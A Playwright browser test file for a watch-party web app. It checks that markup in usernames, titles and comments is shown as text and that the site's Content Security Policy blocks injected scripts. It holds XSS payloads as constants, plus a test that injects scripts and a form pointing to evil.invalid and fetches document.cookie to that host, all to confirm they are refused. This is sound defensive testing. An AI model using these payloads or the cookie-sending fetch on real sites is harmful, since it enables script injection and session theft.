from __future__ import annotations

from playwright.sync_api import Page, expect

from tests.browser.support.fixtures import join, wait_until
from tests.client import Client

MARKUP = '<img src=x onerror="window.pwned=1"><svg onload="window.pwned=1">'
NAME = '"><img src=x onerror=pwned=1>'
REFUSALS = "addEventListener('securitypolicyviolation', event => (window.refused ??= []).push(event.violatedDirective))"


def hostile_room(server) -> str:
    """Create a public room with markup in every text field."""
    mallory = Client(server.url)
    room_id = mallory.create_room(
        username=NAME, title=NAME, visibility="public", media_url="/media/samples/clip.webm"
    ).room_id
    mallory.control(room_id, "load", media_url="https://media.invalid/film.webm", title=MARKUP)
    mallory.comment(room_id, MARKUP + " https://example.org/?q=\"onclick='pwned=1'")
    mallory.state(room_id)  # so that the member is present, with a name
    return room_id


def watched(person) -> Page:
    page = person()
    page.add_init_script(REFUSALS)
    return page


def unharmed(page: Page) -> None:
    assert page.evaluate("() => window.pwned") is None
    assert page.locator("img[src=x], svg[onload]").count() == 0


def test_markup_in_user_input_is_text_on_every_page(person, server):
    room_id = hostile_room(server)
    bob = watched(person)
    bob.goto("/")
    expect(bob.get_by_text(NAME).first).to_be_visible()
    unharmed(bob)
    bob.goto(f"/rooms/{room_id}/")
    expect(bob.get_by_role("heading", name=NAME)).to_be_visible()
    unharmed(bob)
    join(bob, f"{server.url}/rooms/{room_id}/", NAME)
    expect(bob.get_by_role("log")).to_contain_text(MARKUP)
    link = bob.get_by_role("log").get_by_role("link")
    assert link.evaluate_all("links => links.every(link => !link.onclick && link.protocol === 'https:')")
    unharmed(bob)
    assert bob.evaluate("() => window.refused ?? []") == []


def test_the_content_security_policy_blocks_injected_scripts(person, server):
    bob = watched(person)
    join(bob, f"{server.url}/rooms/{hostile_room(server)}/", "Bob")
    bob.evaluate(
        """() => {
            const inline = document.createElement("script")
            inline.textContent = "window.pwned = 1"
            const elsewhere = document.createElement("script")
            elsewhere.src = "https://evil.invalid/x.js"
            document.body.append(inline, elsewhere)
            document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.pwned = 1">')
            document.body.insertAdjacentHTML("beforeend", '<form action="https://evil.invalid/"><button>x</button></form>')
            document.querySelector("form[action*=evil]").submit()
        }"""
    )
    wait_until(bob, "() => (window.refused ?? []).length >= 4")
    refused = bob.evaluate("() => window.refused")
    assert {"script-src-elem", "script-src-attr", "form-action"} <= set(refused)
    unharmed_here = bob.evaluate("() => window.pwned")
    assert unharmed_here is None
    bob.goto("/")  # a room's page may fetch streams from other hosts, no other page may
    bob.evaluate("""() => void fetch("https://evil.invalid/?" + document.cookie).catch(() => {})""")
    wait_until(bob, "() => (window.refused ?? []).includes('connect-src')")


def test_a_page_open_since_before_its_browser_signed_in_still_works(person, server):
    alice = person()
    alice.goto("/")
    elsewhere = alice.context.new_page()
    elsewhere.goto("/accounts/signup/")
    elsewhere.get_by_role("textbox", name="Username").fill("Alice in two tabs")
    for label in ("Password", "Password confirmation"):
        elsewhere.get_by_label(label, exact=True).fill("horse staple battery")
    elsewhere.get_by_role("button", name="Create account").click()
    elsewhere.wait_for_url("**/")
    alice.get_by_role("button", name="Create room").click()
    alice.wait_for_url("**/rooms/*/")
    expect(alice.locator("body")).to_have_attribute("data-socket", "open")
